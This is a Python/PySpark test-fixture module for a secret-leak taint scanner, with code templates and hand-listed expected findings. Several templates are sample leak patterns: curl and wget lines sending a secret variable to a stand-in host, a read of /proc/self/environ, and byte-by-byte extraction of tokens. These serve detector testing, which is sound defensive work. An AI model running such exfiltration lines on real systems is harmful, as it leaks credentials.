"""Snippets derived from ``events``: one template per event, chosen and filled by its ids.

``EXPECTED`` lists the findings of each template, worked out by hand, so the oracle SQL of the scan
shares nothing with the scanner.
"""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from emberwatch.sources.tables import dealt, table

TEMPLATES = [
    'import os\nsecret = os.environ["K{id}"]\nprint(secret)',
    'import os\ntok = os.getenv("A{id}")\nn = len(tok)\nfirst = tok[0]\npart = tok[1:3]\ni = 2\ndyn = tok[i]\nneg = tok[-1]',
    'import subprocess\nproc = subprocess.run(["env"], capture_output=True)\nout = proc.stdout\n'
    'for line in out.split():\n    if line == "x{id}":\n        print(f"hit {line}")',
    'import base64, hashlib\npassword = load("{id}")\na = base64.b64encode(password)\n'
    'h = hashlib.sha256(password.encode())\nx = password.hex()\nif password.startswith("a"):\n    pass\n'
    'k = password.find("b") + password.count("c")',
    'api_key = fetch("{id}")\nprint(ord(api_key[0]), repr(api_key))\nh = hash(api_key)\nt = type(api_key)\n'
    'b = [hex(c) for c in api_key]\nd = {c: bin(ord(c)) for c in api_key}',
    'import os\ndef add(a, b):\n    return a + b\nprint(add(1, {user}))',
    'import os\ndef broken(:\n    print("{id}")',
    '#!/bin/bash\n# comment $A | cut -c1\nexport K={id}\necho ${K:0:4}\necho ${#K}\necho $K | cut -c1-3\n',
    'export T={user}\ncurl -d "$T" https://h/{id}\nwget "http://h/?k=$T"\necho "$T" | base64\n\n  echo $T | xxd\necho $T | wc -c',
    'export P={id}\nif [[ $P == a* ]]; then echo ok; fi\nx=$(expr substr $P 1 1)\nprintf \'%d\' \'"$P\'\nhexdump -C f{user}\nod -A n f',
    'echo start {id}\npython3 -c \'secret=1;send(len(secret))\' && echo done\n'
    'python -c "x=1" ; python3 -c \'token=2;post(token)\'\npython3 -c "if broken("',
    'const c = s.charCodeAt(0) + {id};\nconst d = s.charAt(1), e = s.codePointAt(2);\nconst f = s.substring(0, {user});',
    's.each_byte { |b| out b }\ns.each_char { |c| out c }\nv = s.bytes[{user}]\nw = s.unpack("C*") # {id}',
    'if strings.Contains(s, "a{id}") {\nr, _ := utf8.DecodeRune(b)\nfmt.Println(s[0])',
    'plain note {id}',
    'import os\nrow = cur.fetchone()\na, b = row\nlogger.info(a)\nsys.stdout.write(b)\n'
    'requests.post(url, data=a, json={"k": b})\nx: str = row.name\nprint(x.partition(":"), "id {id}", sep=x)',
    'data = open("/proc/self/environ")\nf = open("notes.txt")\nraw = f.read()\nok = "z" in data\n'
    'if 5 < raw.size < data:\n    pass\ncodecs.encode(raw, "rot13")\ndef done(): return {user}',
    'import os\nv = os.environ.get("K{id}")\nprint(v)\nw = os.environ.get("K", os.getenv("Z"))\nprint(w)',
    'import sys\nfor ln in sys.stdin.readlines():\n    send(ln)\nvals = {y for x in ln for y in x}\n'
    'tot = sum(len(q) for q in vals)\npost("{id}", tot)',
    'import os\nauth = get("{id}")\nu = "pre" + auth\nm = fmt(u, z=1)\nr = fmt(z=u)\ng = obj.wrap(m).text\n'
    'y = g[0].name\nprint(y)',
    'def f(): return 0\nprint(k)\nk = os.getenv("A{id}")\nk = 1\nprint(k)\nsend(k) if k else None',
    'import os\nprint(custom[{user}])',
    'import os\nsecret = g("{id}")\nn = len(secret)',
    'import os\nsecret = g("{id}")\nt = type(secret)',
    'echo hi {id}; python3 -c \'print(1)\'',
]

# The language each template is found to be, and the names tainted in it.
LANGUAGE_OF = (
    ["python"] * 7 + ["bash"] * 4 + ["unknown"] * 4 + ["python"] * 10
)
TAINTED_OF = [
    "secret", "dyn,first,n,neg,part,tok", "line,out,proc", "a,password,x", "api_key,c,h,t", "", "", "", "", "", "",
    "", "", "", "", "a,b,row,x", "data,raw", "", "ln,x,y", "auth,g,m,r,u,y", "k", "", "n,secret", "secret,t", "",
]

_OUT = "Outputting derived data from tainted '{}' via {}()"
_ITER = "Comprehension iterates over tainted '{}'"

# slot, position in the list, line, col, severity, leak type, message, code, tainted name
EXPECTED = [
    (0, 1, 3, 0, "HIGH", "indirect_output", _OUT.format("secret", "print"), "print(secret)", "secret"),
    (1, 1, 3, 4, "MEDIUM", "property_probe", "len() on tainted 'tok' leaks secret length", "n = len(tok)", "tok"),
    (1, 2, 4, 8, "CRITICAL", "char_extraction", "Indexing tainted 'tok' at position 0", "first = tok[0]", "tok"),
    (1, 3, 5, 7, "CRITICAL", "slice_extraction", "Slicing tainted 'tok' extracts substring", "part = tok[1:3]", "tok"),
    (1, 4, 7, 6, "HIGH", "char_extraction", "Dynamic indexing into tainted 'tok'", "dyn = tok[i]", "tok"),
    (1, 5, 8, 6, "HIGH", "char_extraction", "Dynamic indexing into tainted 'tok'", "neg = tok[-1]", "tok"),
    (2, 1, 4, 0, "CRITICAL", "iteration_over_secret",
     "Iterating over tainted 'tainted_expression' exposes each element", "for line in out.split():", "tainted_expression"),
    (2, 2, 4, 12, "MEDIUM", "property_probe", "'out'.split() reveals structure", "for line in out.split():", "out"),
    (2, 3, 5, 7, "HIGH", "comparison_leak", "Comparing tainted 'line' leaks via boolean result",
     'if line == "x{id}":', "line"),
    (2, 4, 6, 8, "HIGH", "indirect_output", _OUT.format("line", "print"), 'print(f"hit {line}")', "line"),
    (2, 5, 6, 14, "HIGH", "format_string_leak", "f-string interpolates tainted 'line'", 'print(f"hit {line}")', "line"),
    (3, 1, 3, 4, "HIGH", "encoding_transform", "base64.b64encode() on tainted 'password'",
     "a = base64.b64encode(password)", "password"),
    (3, 2, 4, 19, "HIGH", "encoding_transform", "'password'.encode() transforms secret encoding",
     "h = hashlib.sha256(password.encode())", "password"),
    (3, 3, 5, 4, "HIGH", "encoding_transform", "'password'.hex() transforms secret encoding", "x = password.hex()",
     "password"),
    (3, 4, 6, 3, "HIGH", "property_probe", "'password'.startswith() enables binary search of value",
     'if password.startswith("a"):', "password"),
    (3, 5, 8, 4, "HIGH", "property_probe", "'password'.find() reveals character positions",
     'k = password.find("b") + password.count("c")', "password"),
    (3, 6, 8, 25, "MEDIUM", "property_probe", "'password'.count() reveals character frequency",
     'k = password.find("b") + password.count("c")', "password"),
    (4, 1, 2, 0, "HIGH", "indirect_output", _OUT.format("api_key", "print"), "print(ord(api_key[0]), repr(api_key))",
     "api_key"),
    (4, 2, 2, 0, "HIGH", "indirect_output", _OUT.format("api_key", "print"), "print(ord(api_key[0]), repr(api_key))",
     "api_key"),
    (4, 3, 2, 6, "CRITICAL", "ord_byte_value", "ord() on tainted 'api_key' exposes byte value",
     "print(ord(api_key[0]), repr(api_key))", "api_key"),
    (4, 4, 2, 10, "CRITICAL", "char_extraction", "Indexing tainted 'api_key' at position 0",
     "print(ord(api_key[0]), repr(api_key))", "api_key"),
    (4, 5, 2, 23, "CRITICAL", "property_probe", "repr() on tainted 'api_key' may expose full value",
     "print(ord(api_key[0]), repr(api_key))", "api_key"),
    (4, 6, 3, 4, "MEDIUM", "property_probe", "hash() on tainted 'api_key' enables offline brute-force",
     "h = hash(api_key)", "api_key"),
    (4, 7, 4, 4, "LOW", "property_probe", "type() on tainted 'api_key'", "t = type(api_key)", "api_key"),
    (4, 8, 0, 0, "CRITICAL", "iteration_over_secret", _ITER.format("api_key"), "", "api_key"),
    (4, 9, 5, 5, "HIGH", "encoding_transform", "hex() on tainted 'c' encodes value", "b = [hex(c) for c in api_key]", "c"),
    (4, 10, 0, 0, "CRITICAL", "iteration_over_secret", _ITER.format("api_key"), "", "api_key"),
    (4, 11, 6, 8, "HIGH", "encoding_transform", "bin() on tainted 'c' encodes value",
     "d = {c: bin(ord(c)) for c in api_key}", "c"),
    (4, 12, 6, 12, "CRITICAL", "ord_byte_value", "ord() on tainted 'c' exposes byte value",
     "d = {c: bin(ord(c)) for c in api_key}", "c"),
    (7, 1, 4, 0, "CRITICAL", "char_extraction", "Bash substring extraction ${var:offset:length}", "echo ${K:0:4}", ""),
    (7, 2, 5, 0, "MEDIUM", "char_extraction", "Getting variable length with ${#var}", "echo ${#K}", ""),
    (7, 3, 6, 0, "CRITICAL", "char_extraction", "Extracting characters from variable with cut -c", "echo $K | cut -c1-3", ""),
    (8, 1, 2, 0, "CRITICAL", "char_extraction", "Sending variable content via HTTP (exfiltration)",
     'curl -d "$T" https://h/{id}', ""),
    (8, 2, 3, 0, "CRITICAL", "char_extraction", "Sending variable content via HTTP (exfiltration)", 'wget "http://h/?k=$T"', ""),
    (8, 3, 4, 0, "HIGH", "char_extraction", "Base64 encoding (potential secret exfiltration)", 'echo "$T" | base64', ""),
    (8, 4, 6, 0, "HIGH", "char_extraction", "Hex dump of data (potential secret encoding)", "echo $T | xxd", ""),
    (8, 5, 7, 0, "MEDIUM", "char_extraction", "Measuring secret length with wc -c", "echo $T | wc -c", ""),
    (9, 1, 2, 0, "HIGH", "char_extraction", "String comparison against variable (brute-force probe)",
     "if [[ $P == a* ]]; then echo ok; fi", ""),
    (9, 2, 3, 0, "CRITICAL", "char_extraction", "Extracting substring from variable with expr substr",
     "x=$(expr substr $P 1 1)", ""),
    (9, 3, 4, 0, "HIGH", "char_extraction", "printf %d on secret character (ASCII value)", "printf '%d' '\"$P'", ""),
    (9, 4, 5, 0, "HIGH", "char_extraction", "Hex dump of data (potential secret encoding)", "hexdump -C f{user}", ""),
    (9, 5, 6, 0, "HIGH", "char_extraction", "Hex dump of data (potential secret encoding)", "od -A n f", ""),
    (10, 1, 2, 9, "HIGH", "indirect_output", "[embedded python] " + _OUT.format("secret", "send"),
     "secret=1;send(len(secret))", "secret"),
    (10, 2, 2, 14, "MEDIUM", "property_probe", "[embedded python] len() on tainted 'secret' leaks secret length",
     "secret=1;send(len(secret))", "secret"),
    (10, 3, 3, 8, "HIGH", "indirect_output", "[embedded python] " + _OUT.format("token", "post"),
     "token=2;post(token)", "token"),
    (11, 1, 1, 0, "CRITICAL", "char_extraction", "[js] charCodeAt() extracts character code",
     "const c = s.charCodeAt(0) + {id};", ""),
    (11, 2, 2, 0, "HIGH", "char_extraction", "[js] charAt() extracts single character",
     "const d = s.charAt(1), e = s.codePointAt(2);", ""),
    (11, 3, 2, 0, "CRITICAL", "char_extraction", "[js] codePointAt() extracts character code",
     "const d = s.charAt(1), e = s.codePointAt(2);", ""),
    (11, 4, 3, 0, "HIGH", "char_extraction", "[js] substring() extracts partial value",
     "const f = s.substring(0, {user});", ""),
    (12, 1, 1, 0, "CRITICAL", "char_extraction", "[ruby] Iterating bytes of string", "s.each_byte { |b| out b }", ""),
    (12, 2, 2, 0, "CRITICAL", "char_extraction", "[ruby] Iterating characters of string", "s.each_char { |c| out c }", ""),
    (12, 3, 3, 0, "CRITICAL", "char_extraction", "[ruby/go] Byte-level access to string", "v = s.bytes[{user}]", ""),
    (12, 4, 4, 0, "HIGH", "char_extraction", "[ruby] Unpacking string to numeric values", 'w = s.unpack("C*") # {id}', ""),
    (13, 1, 1, 0, "HIGH", "char_extraction", "[go] String containment check", 'if strings.Contains(s, "a{id}") {', ""),
    (13, 2, 2, 0, "CRITICAL", "char_extraction", "[go] Decoding individual rune from string", "r, _ := utf8.DecodeRune(b)", ""),
    (13, 3, 3, 0, "CRITICAL", "char_extraction", "[go] Printing indexed byte of string", "fmt.Println(s[0])", ""),
    (15, 1, 5, 0, "HIGH", "indirect_output", _OUT.format("b", "sys.stdout.write"), "sys.stdout.write(b)", "b"),
    (15, 2, 6, 0, "HIGH", "indirect_output", _OUT.format("a", "requests.post"),
     'requests.post(url, data=a, json={"k": b})', "a"),
    (15, 3, 8, 0, "HIGH", "indirect_output", _OUT.format("x", "print"), 'print(x.partition(":"), "id {id}", sep=x)', "x"),
    (15, 4, 8, 6, "MEDIUM", "property_probe", "'x'.partition() reveals structure",
     'print(x.partition(":"), "id {id}", sep=x)', "x"),
    (16, 1, 4, 5, "HIGH", "comparison_leak", "Comparing against tainted 'data'", 'ok = "z" in data', "data"),
    (16, 2, 5, 3, "HIGH", "comparison_leak", "Comparing against tainted 'raw'", "if 5 < raw.size < data:", "raw"),
    (16, 3, 5, 3, "HIGH", "comparison_leak", "Comparing against tainted 'data'", "if 5 < raw.size < data:", "data"),
    (16, 4, 7, 0, "HIGH", "encoding_transform", "codecs.encode() on tainted 'raw'", 'codecs.encode(raw, "rot13")', "raw"),
    (18, 1, 2, 0, "CRITICAL", "iteration_over_secret",
     "Iterating over tainted 'tainted_expression' exposes each element", "for ln in sys.stdin.readlines():",
     "tainted_expression"),
    (18, 2, 3, 4, "HIGH", "indirect_output", _OUT.format("ln", "send"), "send(ln)", "ln"),
    (18, 3, 0, 0, "CRITICAL", "iteration_over_secret", _ITER.format("ln"), "", "ln"),
    (18, 4, 0, 0, "CRITICAL", "iteration_over_secret", _ITER.format("x"), "", "x"),
    (19, 1, 7, 4, "CRITICAL", "char_extraction", "Indexing tainted 'g' at position 0", "y = g[0].name", "g"),
    (19, 2, 8, 0, "HIGH", "indirect_output", _OUT.format("y", "print"), "print(y)", "y"),
    (20, 1, 5, 0, "HIGH", "indirect_output", _OUT.format("k", "print"), "print(k)", "k"),
    (20, 2, 6, 0, "HIGH", "indirect_output", _OUT.format("k", "send"), "send(k) if k else None", "k"),
    (22, 1, 3, 4, "MEDIUM", "property_probe", "len() on tainted 'secret' leaks secret length", "n = len(secret)", "secret"),
    (23, 1, 3, 4, "LOW", "property_probe", "type() on tainted 'secret'", "t = type(secret)", "secret"),
]

# Findings that appear in template 21 only when the policy names ``custom`` as a source.
EXPECTED_EXTRA = [
    (21, 1, 2, 0, "HIGH", "indirect_output", _OUT.format("custom", "print"), "print(custom[{user}])", "custom"),
    (21, 2, 2, 6, "CRITICAL", "char_extraction", "Indexing tainted 'custom' at position {user}", "print(custom[{user}])",
     "custom"),
]


def _filled(template: str) -> Column:
    """A template with the event's ids in place, as one concatenation."""
    parts: list[Column] = []
    for piece in template.replace("{id}", "\0event_id\0").replace("{user}", "\0user_id\0").split("\0"):
        if piece in ("event_id", "user_id"):
            parts.append(F.col(piece).cast("string"))
        elif piece:
            parts.append(F.lit(piece))
    return F.concat(*parts)


def snippets(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``snippet_id, slot, code, language``: one snippet per event."""
    return fill(dealt(table(spark, sf_dir, "events", "event_id", "user_id")))


def fill(events: DataFrame) -> DataFrame:
    """Snippets of event rows, from a table or a stream."""
    slot = F.col("event_id") % len(TEMPLATES)
    code = F.when(slot == 0, _filled(TEMPLATES[0]))
    for i, template in enumerate(TEMPLATES[1:], 1):
        code = code.when(slot == i, _filled(template))
    return events.select(
        F.col("event_id").alias("snippet_id"), "user_id", slot.alias("slot"), code.alias("code"),
        F.lit("auto").alias("language"),
    )


def quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def _replaced(column: str) -> str:
    return f"replace(replace({column}, '{{id}}', CAST(event_id AS VARCHAR)), '{{user}}', CAST(user_id AS VARCHAR))"


def _values(rows) -> str:
    return ",\n".join("(" + ", ".join(quoted(v) if isinstance(v, str) else str(v) for v in row) + ")" for row in rows)


def snippets_sql() -> str:
    """CTE ``snippets(snippet_id, user_id, slot, code, language, tainted)`` for the oracle."""
    rows = [(i, t, LANGUAGE_OF[i], TAINTED_OF[i]) for i, t in enumerate(TEMPLATES)]
    return (
        f"templates(slot, template, language, tainted) AS (VALUES {_values(rows)}),\n"
        f"snippets AS (SELECT event_id AS snippet_id, user_id, slot, {_replaced('template')} AS code, language, tainted "
        f"FROM events JOIN templates ON event_id % {len(TEMPLATES)} = slot)"
    )


def expected_sql(rows=None) -> str:
    """CTE ``expected``: hand-listed findings per snippet."""
    columns = "slot, pos, line, col, severity, leak_type, message, code_snippet, tainted_var"
    return (
        f"listed({columns}) AS (VALUES {_values(EXPECTED if rows is None else rows)}),\n"
        f"expected AS (SELECT event_id AS snippet_id, slot, pos, line, col, severity, leak_type, "
        f"CASE severity WHEN 'CRITICAL' THEN 4 WHEN 'HIGH' THEN 3 WHEN 'MEDIUM' THEN 2 WHEN 'LOW' THEN 1 ELSE 0 END AS sev_rank, "
        f"{_replaced('message')} AS message, {_replaced('code_snippet')} AS code_snippet, tainted_var "
        f"FROM events JOIN listed ON event_id % {len(TEMPLATES)} = slot)"
    )
